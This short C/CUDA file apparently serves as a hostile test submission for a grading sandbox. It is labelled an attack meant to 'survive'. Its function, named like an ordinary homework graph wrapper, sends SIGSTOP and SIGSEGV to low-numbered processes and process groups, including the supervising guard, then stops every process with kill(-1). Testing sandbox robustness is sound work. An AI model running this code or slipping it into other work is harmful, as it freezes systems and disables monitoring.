// attack: survive
// root: resources
// what: sends SIGSTOP to every process and every group, also to the guard
// list: 12
#include <signal.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (int other = 1; other < 40; other++)
    if (other != getpid()) kill(other, SIGSTOP), kill(-other, SIGSTOP), kill(other, SIGSEGV);
  kill(-1, SIGSTOP);
  _exit(3);
}
